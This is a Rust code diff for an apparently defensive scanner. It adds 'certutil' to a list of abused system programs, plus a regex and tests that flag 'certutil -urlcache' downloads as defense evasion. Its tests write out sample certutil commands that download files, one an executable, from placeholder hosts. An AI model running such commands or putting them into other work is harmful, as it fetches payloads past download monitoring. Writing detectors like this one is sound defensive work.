@@ -111,6 +111,7 @@ pub(super) const ANCHORS: &[&str] = &[
     // A library run through the system's own programs.
     "rundll32",
     "regsvr32",
+    "certutil",
     // Programs named as the kernel's own threads.
     "kworker",
     "kthreadd",
@@ -264,6 +265,16 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
             )
         });
     }
+    if let Some(m) = CERTUTIL_DOWNLOAD.find(s) {
+        let (txt, lines) = (sink.text, sink.lines);
+        let abs = seg.abs(m.range());
+        sink.add(RuleId::DefenseEvasion, abs.start, || {
+            format!(
+                "a download with Windows' certificate tool (certutil -urlcache), a way past the tools that watch downloads: {}",
+                text::excerpt(txt, lines, abs.clone())
+            )
+        });
+    }
     if let Some(at) = sandbox_names(s) {
         let (txt, lines) = (sink.text, sink.lines);
         let abs = seg.abs(at);
@@ -285,6 +296,14 @@ pub(super) fn check(seg: &Segment<'_>, sink: &mut Sink<'_>) {
         }
     }
 }
+
+/// `certutil -urlcache -split -f https://… out`: Windows' certificate tool
+/// made to download a file (ATT&CK T1105, "Ingress Tool Transfer"); no
+/// certificate work needs `-urlcache` with an address.
+static CERTUTIL_DOWNLOAD: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)(?-u:\b)certutil(?:\.exe)?(?:[ \t]+[-/][a-z]+)*?[ \t]+[-/]urlcache(?:[ \t]+[-/][a-z*]+)*[ \t]+["']?(?:https?|ftp)://"#)
+        .unwrap()
+});
 
 /// `rundll32` given a library that is not the system's (or an entry point
 /// of a library named elsewhere: `[lib + ",main"]`), or `regsvr32 /i:` given
@@ -549,6 +568,24 @@ mod tests {
             .filter(|f| f.rule == RuleId::DefenseEvasion)
             .map(|f| (f.line, f.severity()))
             .collect()
+    }
+
+    #[test]
+    fn a_download_with_certutil_is_found() {
+        for t in [
+            "certutil -urlcache -split -f \"https://pki.h.invalid/ca.pem\" \"%CA%\" >nul 2>&1",
+            "certutil.exe -urlcache -f http://h.invalid/a.txt a.txt",
+            "CertUtil /urlcache /split /f https://h.invalid/x x.exe",
+        ] {
+            assert_eq!(found(t).len(), 1, "{t}");
+        }
+        for t in [
+            "certutil -hashfile setup.exe SHA256",
+            "certutil -urlcache * delete",
+            "certutil -addstore -f Root corp-root-ca.cer",
+        ] {
+            assert!(found(t).is_empty(), "{t}");
+        }
     }
 
     #[test]
